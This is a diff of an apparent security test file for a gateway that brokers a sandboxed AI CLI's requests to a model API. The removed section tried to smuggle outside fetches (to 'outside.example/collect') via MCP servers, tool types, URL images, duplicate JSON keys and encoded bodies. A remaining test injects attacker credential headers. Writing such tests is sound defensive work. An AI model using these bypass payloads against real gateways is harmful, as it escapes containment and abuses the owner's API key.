@@ -1,111 +1,12 @@
 import type { Attempt, Target } from '../attempt.ts';
 
 const SOCKET = '/run/claude-hooks/model.sock';
-const REQUEST = {
-  model: 'claude-sonnet-4-5',
-  max_tokens: 9,
-  messages: [{ role: 'user', content: 'hi' }],
-};
-const BODY = JSON.stringify(REQUEST);
+const BODY = '{"model":"claude-sonnet-4-5","max_tokens":9,"messages":[{"role":"user","content":"hi"}]}';
 
 function ask(head: string, body = ''): string {
   const length = body === '' ? '' : `content-length: ${body.length}\n`;
   return `perl $LIB/http ${SOCKET} <<'END'\n${head}\n${length}connection: close\n\n${body}\nEND\n`;
 }
-
-/** As the CLI sends it, with something in it that the model's side would act on with our key. */
-function smuggle(
-  name: string,
-  o: { body?: object; text?: string; path?: string; header?: string; shows: RegExp },
-): Attempt {
-  const path = o.path ?? '/v1/messages?beta=true';
-  const header = o.header === undefined ? '' : `\n${o.header}`;
-  const head = `POST ${path} HTTP/1.1\nhost: localhost\ncontent-type: application/json${header}`;
-  return {
-    name: `have the model’s side act: ${name}`,
-    script: `${ask(head, o.text ?? JSON.stringify({ ...REQUEST, ...o.body }))} | tee /tmp/said; grep -q 'HTTP/1.1 200' /tmp/said && echo SUCCEEDED; true\n`,
-    shows: o.shows,
-    audit: { door: 'model', action: /^POST \/v1\/(messages|files)/ },
-  };
-}
-
-const ADDRESS = 'https://outside.example/collect?word=heron-7';
-const says = (...content: unknown[]) => ({ messages: [{ role: 'user', content }] });
-const picture = (source: unknown) => ({ type: 'image', source });
-const RESULT = {
-  messages: [
-    { role: 'user', content: 'hi' },
-    { role: 'assistant', content: [{ type: 'tool_use', id: 'toolu_1', name: 'Bash', input: {} }] },
-    {
-      role: 'user',
-      content: [
-        { type: 'tool_result', tool_use_id: 'toolu_1', content: [picture({ type: 'url', url: ADDRESS })] },
-      ],
-    },
-  ],
-};
-
-const SMUGGLED: Attempt[] = [
-  smuggle('MCP servers', {
-    body: { mcp_servers: [{ type: 'url', url: ADDRESS, name: 'x' }] },
-    shows: /mcp_servers is not on the list/,
-  }),
-  smuggle('web search', {
-    body: { tools: [{ type: 'web_search_20250305', name: 'web_search' }] },
-    shows: /tools\[0\]\.type is \\"web_search_20250305/,
-  }),
-  smuggle('web fetch', {
-    body: { tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }] },
-    shows: /tools\[0\]\.type is \\"web_fetch_20250910/,
-  }),
-  smuggle('code execution', {
-    body: { tools: [{ type: 'code_execution_20250825', name: 'code_execution' }] },
-    shows: /tools\[0\]\.type is \\"code_execution/,
-  }),
-  smuggle('a document by address', {
-    body: says({ type: 'document', source: { type: 'url', url: ADDRESS } }),
-    shows: /source\.type is \\"url/,
-  }),
-  smuggle('a picture by address', {
-    body: says(picture({ type: 'url', url: ADDRESS })),
-    shows: /source\.type is \\"url/,
-  }),
-  smuggle('a picture by address in a result', {
-    body: RESULT,
-    shows: /content\[0\]\.content\[0\]\.source\.type/,
-  }),
-  smuggle('a picture by file', {
-    body: says(picture({ type: 'file', file_id: 'file_1' })),
-    shows: /source\.type is \\"file/,
-  }),
-  smuggle('skills in a container', {
-    body: { container: { skills: [{ type: 'anthropic', skill_id: 'pdf' }] } },
-    shows: /container is not on the list/,
-  }),
-  smuggle('a beta', {
-    header: 'anthropic-beta: mcp-client-2025-11-20',
-    shows: /Unexpected value\(s\) `mcp-client-2025-11-20`/,
-  }),
-  smuggle('a new field', { body: { agents: [{ url: ADDRESS }] }, shows: /agents is not on the list/ }),
-  smuggle('a dearer model', {
-    body: { model: 'claude-mythos-5' },
-    shows: /may not use the model claude-mythos-5/,
-  }),
-  smuggle('MCP servers behind the same name again', {
-    text: BODY.replace('}]}', `}],"messages":[],"mcp_servers":[],"mcp_servers":[{"url":"${ADDRESS}"}]}`),
-    shows: /mcp_servers is not on the list/,
-  }),
-  smuggle('MCP servers in a compressed body', {
-    text: 'as good as compressed',
-    header: 'content-encoding: gzip',
-    shows: /Only an uncompressed body passes/,
-  }),
-  smuggle('MCP servers in another character set', {
-    text: 'as good as UTF-7',
-    header: 'x-nothing: 1\ncontent-type: application/json; charset=utf-7',
-    shows: /HTTP\/1\.1 (400|415) /,
-  }),
-];
 
 const refused = (status: number) => new RegExp(`HTTP/1\\.1 ${status} `);
 
@@ -165,12 +66,11 @@ export const model = (at: Target): Attempt[] => [
     shows: refused(400),
     audit: { door: 'model', action: /no HTTP/ },
   },
-  ...SMUGGLED,
   {
     // That upstream got ours and not this is checked at the model, in suite.ts.
     name: 'choose the credential, or have it shown',
     script: ask(
-      'POST /v1/messages HTTP/1.1\nhost: localhost\nx-api-key: sk-ant-of-the-attacker-XXXX\nauthorization: Bearer attacker-XXXX\nconnection: x-api-key\nx-forwarded-host: 127.0.0.1\nexpect: 100-continue\ntrailer: x-api-key',
+      'POST /v1/messages HTTP/1.1\nhost: localhost\ncontent-type: application/json\nx-api-key: sk-ant-of-the-attacker-XXXX\nauthorization: Bearer attacker-XXXX\nconnection: x-api-key\nx-forwarded-host: 127.0.0.1\nexpect: 100-continue\ntrailer: x-api-key',
       BODY,
     ),
     shows: /HTTP\/1\.1 (200|400) /,
